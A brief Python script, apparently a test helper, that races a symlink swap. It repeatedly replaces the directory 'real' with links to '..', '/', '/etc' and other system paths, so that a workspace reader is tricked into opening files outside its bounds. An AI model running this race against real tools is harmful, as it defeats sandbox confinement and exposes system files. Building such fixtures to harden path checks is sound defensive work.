"""Keeps replacing what a reader of the workspace is about to open by a link that leads out."""

import os
import time

os.makedirs("real", exist_ok=True)
end = time.monotonic() + 8
while time.monotonic() < end and not os.path.exists("enough"):
    for target in ("..", "/", "/workspaces", "/etc", "/tmp"):
        os.symlink(target, "link")
        os.rename("real", "bait")
        os.rename("link", "real")
        with open("mark", "w") as file:
            file.write(target)
        os.unlink("real")
        os.rename("bait", "real")
